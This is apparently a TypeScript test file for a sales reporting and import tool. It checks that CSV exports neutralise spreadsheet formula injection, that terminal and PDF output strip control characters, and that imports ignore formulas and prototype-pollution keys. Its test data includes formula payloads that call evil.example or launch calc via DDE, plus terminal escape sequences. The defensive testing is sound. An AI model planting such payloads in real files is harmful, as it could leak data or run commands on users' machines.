/**
 * Story: words that a spreadsheet would run, in and out. What we write is read back cell by cell:
 * words are words, and amounts below nought are still amounts.
 */
import { parseCsv } from 'hucre/csv'
import { afterAll, describe, expect, test } from 'vitest'
import { print, type Terminal } from '#cli/terminal.ts'
import { parseMapping } from '#domain/import/mapping.ts'
import { renderReport } from '#reports/render/render.ts'
import { openImportDesk } from '#test/support/import-desk.ts'
import { collector, openTerminal } from '../cli/terminal.ts'
import { readPdf } from '../reports/read-pdf.ts'
import { sampleReport } from '../reports/sample.ts'
import { header, rowOf, sale, workbook } from './archives.ts'

const commands = [
  '=HYPERLINK("https://evil.example/?"&A1,"Total")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '-5',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1";=1+1,"=1',
]
/** A line's end within a name, and what a spreadsheet would find behind it. */
const broken = ['Mug\n=1+1', 'Mug\r=1+1', 'Mug\r\n@SUM(1)', 'Mug\n"=1+1"']

const word = (name: string) => (broken.includes(name) ? name : `'${name}`)

describe('what we write', () => {
  test.each([...commands, ...broken])(
    '%j is a word in a CSV, as name, heading and title',
    async (name) => {
      const report = sampleReport({ names: [name], rows: 1, amount: '-5.25' })
      for (const section of report.sections) section.title = name
      report.sections[1]!.columns[0]!.title = name
      const { bytes } = await renderReport(report, 'csv')
      const cells = parseCsv(Buffer.from(bytes).toString('utf8'), { delimiter: ',' }).flat()
      const texts = cells.map((cell) => String(cell ?? ''))
      expect(texts.filter((text) => text === word(name))).toHaveLength(4)
      const amounts = texts.filter((text) => text === '-5.25')
      expect(amounts).toHaveLength(3)
      expect(amounts.map(Number)).toEqual([-5.25, -5.25, -5.25])
      const bare = texts.filter((text) => /^[=+\-@\t\r\n\0＝＋－＠]/.test(text) && text !== '-5.25')
      expect(bare).toEqual([])
    },
  )

  test('control characters and endless words do not break a page', async () => {
    const names = ['a\u0000b\u001b[2J\u0085c', 'x'.repeat(5_000), '\u202e01£', ...commands]
    const { bytes } = await renderReport(sampleReport({ names, rows: 40 }), 'pdf')
    const texts = (await readPdf(bytes)).flat()
    expect(texts).toContain('ab[2Jc')
    expect(texts.filter((text) => /^x{10,}…$/.test(text)).length).toBeGreaterThan(0)
    expect(texts.join('')).not.toMatch(/[^\P{Cc}\n]|\u202e/u)
    for (let row = 1; row <= 40; row++) expect(texts).toContain(String(row))
  })
})

describe('what we read', async () => {
  const desk = await openImportDesk()
  afterAll(desk.close)

  test('of a formula the value counts that was last worked out; without one the cell is blank', async () => {
    const shop = await desk.business()
    const formula = '<c><f>1/0*WEBSERVICE("https://evil.example")</f><v>4.50</v></c>'
    const bare = '<c><f>1+1</f></c>'
    const row = (price: string) =>
      sale.replace(/<c t="inlineStr"><is><t>4.50<\/t><\/is><\/c>/, price)
    const sheet = `<sheetData>${header}${row(formula)}${row(bare)}</sheetData>`
    const { accepted, refused } = await shop.imports(workbook(sheet))
    expect([accepted, refused.count]).toEqual([1, 1])
    expect(await shop.lines()).toMatchObject([{ gross: '9' }])
  })

  test('names keep their words, and lose what steers terminals and readers', async () => {
    const shop = await desk.business()
    const odd = ['_x001B_[2JMug_x0000_', '_xD83D_ half', '&#27;[31mred', '_x202E_01', '=1+1']
    const sheet = `<sheetData>${header}${odd.map((name, i) => rowOf(`${i}`, name, '1', '2024-05-13', '1.00')).join('')}</sheetData>`
    const { accepted } = await shop.imports(workbook(sheet))
    expect(accepted).toBe(odd.length)
    const names = (await shop.products()).map(({ name }) => name)
    expect(names).toEqual(['01', '=1+1', '[2JMug', '[31mred', '\ufffd half'].sort())
  })

  test('headings and states that are names of JavaScript’s own mean nothing', async () => {
    const shop = await desk.business()
    const own = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']
    const text = [
      `Invoice,Item,Qty,Date,Price,Status,${own.join()}`,
      ...own.map((status, i) => `${i},${status},1,2024-05-13,1.00,${status},1,1,1,1,1`),
      `9,Mug,1,2024-05-13,1.00,paid,1,1,1,1,1`,
    ].join('\n')
    const mapping = parseMapping('{"statuses": {"__proto__": "PAID", "sold": "PAID"}}')
    const { accepted, refused } = await shop.imports(text, { mapping })
    expect([accepted, refused.count]).toEqual([1, own.length])
    expect(refused.rows[1]!.reason).toBe(
      'status "constructor" is not known: name it in the mapping',
    )
  })
})

test('a terminal is told in words that do nothing to it', async () => {
  const steering = '\u001b]0;owned\u0007\u001b[2J\u009b'
  const { tillie, close } = openTerminal({ [`TILLIE_${steering}`]: '1' })
  const { status, err } = await tillie('ask --as owner hello')
  expect(status).toBe(1)
  expect(err).toContain('there is no such setting')
  expect(err).not.toMatch(/[^\P{Cc}\n]/u)
  close()

  const { stream, text } = collector()
  print({ stdout: stream } as Terminal, `row 2: "${steering}" is not a number`)
  expect(text()).toBe('row 2: "]0;owned[2J" is not a number\n')
})
